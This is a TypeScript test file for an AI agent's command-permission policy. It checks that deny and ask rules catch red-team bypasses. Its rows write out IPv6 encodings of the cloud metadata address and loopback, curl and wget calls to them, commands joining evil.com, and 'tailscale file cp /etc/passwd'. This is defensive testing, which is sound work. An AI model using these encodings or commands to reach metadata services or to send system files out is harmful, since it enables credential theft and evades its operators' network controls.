// Network reach found by a third red team of Domain rules: hosts spelled so a deny or ask rule
// missed them, and hosts a line names outside itself. Rows pin each hole closed; the ordinary lines
// beside them stay allowed.
import { describe, it } from 'vitest';
import type { DecisionKind } from '../src/policy/types.js';
import { REPO_LINUX, expectDecision } from './helpers/policy.js';

const DENY_METADATA = { deny: ['Domain(169.254.169.254)'], ask: ['Domain(127.0.0.1)'], allow: ['Shell(*)', 'Domain(*)'] };

describe('IPv6 spellings of an IPv4 host: deny and ask rules on the IPv4 address apply', () => {
  it.each<[string, DecisionKind]>([
    // (IPv4-translated, ::ffff:0:0:0/96, RFC 2765: a SIIT translator reaches the IPv4 host.)
    ['https://[::ffff:0:169.254.169.254]/', 'deny'],
    ['https://[::ffff:0:a9fe:a9fe]/latest/meta-data/', 'deny'],
    ['https://[0:0:0:0:ffff:0:a9fe:a9fe]/', 'deny'],
    ['https://[::ffff:0:127.0.0.1]/', 'ask'],
    // (::ffff:0:0.0.0.0 is the unspecified address: it reaches loopback.)
    ['https://[::ffff:0:0:0]/', 'ask'],
    // (NAT64 local-use prefix 64:ff9b:1::/48, RFC 8215: where the IPv4 address sits depends on the
    // network's prefix length, so it may be any IPv4 host.)
    ['https://[64:ff9b:1::a9fe:a9fe]/', 'ask'],
    ['https://[64:ff9b:1:a9fe:a9:fe00::]/', 'ask'],
    ['https://[64:ff9b:1::1]/', 'ask'],
    // (Already read: well-known NAT64, mapped and compatible.)
    ['https://[64:ff9b::a9fe:a9fe]/', 'deny'],
    ['https://[::ffff:169.254.169.254]/', 'deny'],
    ['https://[::169.254.169.254]/', 'deny'],
    // (Other IPv6 hosts, and prefixes beside these, stay what they are.)
    ['https://[2001:db8::1]/', 'allow'],
    ['https://[64:ff9b:10::a9fe:a9fe]/', 'allow'],
    ['https://[::ffff:1:a9fe:a9fe]/', 'allow'],
    ['https://example.com/', 'allow'],
  ])('fetch %s -> %s', (url, expected) => {
    expectDecision(DENY_METADATA, 'fetch', url, expected, REPO_LINUX);
  });

  it.each<[string, DecisionKind]>([
    ["curl 'https://[::ffff:0:a9fe:a9fe]/'", 'deny'],
    ["wget 'https://[64:ff9b:1::a9fe:a9fe]/'", 'ask'],
    ["curl 'https://[2001:db8::1]/'", 'allow'],
  ])('%s -> %s', (line, expected) => {
    expectDecision(DENY_METADATA, 'shell', line, expected, REPO_LINUX);
  });
});

const DENY_EVIL = { deny: ['Domain(evil.com)', 'Read(//etc/**)'], allow: ['Shell(*)', 'Domain(*)'] };

describe('hosts named outside the line: unknown hosts, asked where Domain deny/ask rules exist', () => {
  it.each<[string, DecisionKind]>([
    // (s3cmd's configuration file names its server, host_base.)
    ['s3cmd -c /tmp/x.cfg ls s3://b', 'ask'],
    ['s3cmd --config=/tmp/x.cfg ls s3://b', 'ask'],
    // (S3CMD_CONFIG moves it, as BOTO_CONFIG does gsutil's.)
    ['export S3CMD_CONFIG=/tmp/x.cfg; s3cmd ls s3://b', 'ask'],
    ['s3cmd ls s3://b', 'allow'],
    // (wget -H follows links to any host the fetched pages name.)
    ['wget -r -H https://example.com/', 'ask'],
    ['wget -rH https://example.com/', 'ask'],
    ['wget --span-hosts -p https://example.com/', 'ask'],
    ['wget -r https://example.com/', 'allow'],
    // (consul agent joins the servers of -join/-retry-join; its configuration may name more.)
    ['consul agent -retry-join evil.com', 'deny'],
    ['consul agent -join=evil.com', 'deny'],
    ['consul agent -retry-join-wan evil.com:8302', 'deny'],
    ["consul agent -retry-join 'provider=aws tag_key=x'", 'ask'],
    ['consul agent -config-dir=/w/repo/consul.d', 'ask'],
    ['consul agent -dev', 'allow'],
    // (boundary's controller.)
    ['boundary connect -addr evil.com:9200 -target-id x', 'deny'],
    ['boundary connect -addr=$X -target-id x', 'ask'],
    ['boundary connect -target-id x', 'allow'],
    // (tailscale file cp reads the files it sends.)
    ['tailscale file cp /etc/passwd host:', 'deny'],
    ['tailscale file cp a.txt evil.com:', 'deny'],
    ['tailscale file cp a.txt host:', 'allow'],
  ])('%s -> %s', (line, expected) => {
    expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
  });
});
